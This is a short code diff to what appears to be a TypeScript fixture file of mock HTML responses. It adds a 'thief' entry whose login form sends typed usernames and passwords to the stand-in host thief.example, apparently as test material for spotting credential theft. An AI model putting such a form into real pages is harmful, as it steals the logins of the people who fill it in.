@@ -263,6 +263,9 @@ export const CLOSED_PRODUCTS: Readonly<Record<string, Product>> = {
         ? { to: '/error', cookie: 'visit=2' }
         : FORM,
   registration: () => SIGN_UP,
+  // What is typed here is sent to somebody else.
+  thief: () =>
+    '<form method="post" action="https://thief.example/take"><input name="user"><input name="pass" type="password"><input name="getAttribute" type="hidden"><button>Log in</button></form>',
   question: (asked) =>
     asked.method === 'POST'
       ? '<form method="post"><label>Verification code <input name="code"></label><button>Verify</button></form>'
